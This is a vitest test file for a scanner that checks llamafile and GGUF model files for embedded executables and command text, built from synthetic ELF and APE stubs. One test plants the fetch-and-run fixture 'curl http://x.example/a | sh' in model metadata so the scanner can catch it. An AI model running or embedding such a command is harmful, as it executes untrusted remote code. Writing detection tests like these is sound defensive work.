import { describe, expect, it } from "vitest";
import { concat, zeros } from "../builders/bytes.js";
import { gguf, ggufText, oneGgufTensor } from "../builders/gguf.js";
import { scanBytes } from "../builders/scan.js";

const ape = concat("MZqFpD='\n\n", zeros(100), '#!/bin/sh\nexec "$0"\n');
const elf = concat([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], zeros(8), [2, 0, 0x3e, 0, 1, 0, 0, 0], zeros(100));

describe("the llamafile scanner", () => {
  it("tells that the model is a program, whatever its name", async () => {
    const report = await scanBytes("chat", concat(ape, gguf(oneGgufTensor)));
    expect(report.findings.map(({ rule }) => rule)).toContain("llamafile/executable");
  });

  it("finds the model inside and judges it", async () => {
    const model = gguf({ entries: [ggufText("general.notes", "curl http://x.example/a | sh")] });
    const report = await scanBytes("chat.llamafile", concat(elf, "GGUF", zeros(16), model));
    const found = report.findings.find(({ rule }) => rule === "config/command-text");
    expect(found?.member).toEqual([`model at ${elf.length + 20}`]);
  });

  it("does not call a program clean in which it found no model", async () => {
    const report = await scanBytes("chat.llamafile", concat(elf, zeros(100)));
    expect(report.state).toBe("partial");
  });
});
